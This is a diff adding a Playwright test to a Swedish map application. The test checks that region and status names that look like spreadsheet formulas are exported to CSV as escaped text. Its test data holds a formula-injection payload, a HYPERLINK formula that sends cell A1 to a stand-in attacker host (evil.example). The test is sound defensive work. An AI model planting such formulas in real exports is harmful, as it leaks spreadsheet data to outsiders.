@@ -1,6 +1,7 @@
 import { readFileSync } from "node:fs";
 import type { Page } from "@playwright/test";
 import { test, expect } from "./fixtures";
+import { readCsv } from "../csvRead";
 import { collectErrors, waitForMap } from "./helpers";
 
 /** Hostile and broken input: links, data files, geometry, a failing chart. */
@@ -147,6 +148,23 @@ test.describe("opening a data file", () => {
     await expect(legendTitle).toHaveText("Status för den regionala utvecklingsstrategin");
     await expect(page).toHaveURL(/\?region=SE-M$/);
     await expect(page.locator("#side-panel").getByRole("heading", { level: 2, name: "Skåne" })).toBeVisible();
+  });
+
+  test("names that start like a formula are written to the CSV as text, not formulas", async ({ page }) => {
+    const formula = '=HYPERLINK("https://evil.example/?"&A1;"Ny strategi")';
+    const edited = raw();
+    const uppsala = edited.regions.find((r: { code: string }) => r.code === "SE-C");
+    uppsala.name = "@SUMMA(1+1)";
+    edited.statuses.find((s: { id: string }) => s.id === uppsala.strategy.status).sv = formula;
+    await openFile(page, "rus-formler.json", JSON.stringify(edited));
+    await expect(page.getByTestId("upload-loaded")).toContainText("Data från rus-formler.json visas nu");
+    await page.getByText("Exportera").click();
+    await page.getByText("Semikolon (svensk Excel)").click();
+    const [download] = await Promise.all([page.waitForEvent("download"), page.getByTestId("csv-view").click()]);
+    const text = readFileSync((await download.path())!, "utf8");
+    // The line as written: the leading ' makes Excel read the cell as text; the quoting is RFC 4180's.
+    expect(text).toContain(`SE-C;"'@SUMMA(1+1)";"'=HYPERLINK(""https://evil.example/?""&A1;""Ny strategi"")"\r\n`);
+    expect(readCsv(text, ";").find((row) => row[0] === "SE-C")).toEqual(["SE-C", "'@SUMMA(1+1)", `'${formula}`]);
   });
 
   test("a file dropped on the page is read the same way", async ({ page }) => {
